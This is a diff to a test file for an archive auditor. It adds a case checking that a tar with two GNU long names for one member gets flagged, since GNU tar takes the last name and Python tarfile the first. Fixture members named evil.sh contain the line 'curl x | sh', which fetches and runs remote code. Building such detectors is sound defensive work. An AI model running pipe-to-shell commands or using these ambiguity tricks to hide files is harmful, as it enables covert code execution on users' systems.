@@ -114,6 +114,12 @@ describe("archive-ambiguity: hiding places are reported", () => {
     expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "from-pax.sh" }));
   });
 
+  it("two GNU long names for one member (GNU tar takes the last, Python the first)", async () => {
+    const r = await auditBytes(clean().gnuLongName(`${P}README.txt`).gnuLongName(`${P}evil.sh`).file(`${P}short`, "curl x | sh\n", 0o755).eof().bytes());
+    expect(highAt(r, /evil\.sh/)[0]?.message).toMatch(/GNU tar uses the last, Python tarfile the first/);
+    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "evil.sh" }));
+  });
+
   it("NUL byte in a pax path is cut where C extractors cut it", async () => {
     const r = await auditBytes(clean().pax([["path", `${P}evil\0.txt`]]).file(`${P}evil.sh`, "curl x | sh\n", 0o755).eof().bytes());
     expect(highAt(r, /NUL byte/)).not.toHaveLength(0);
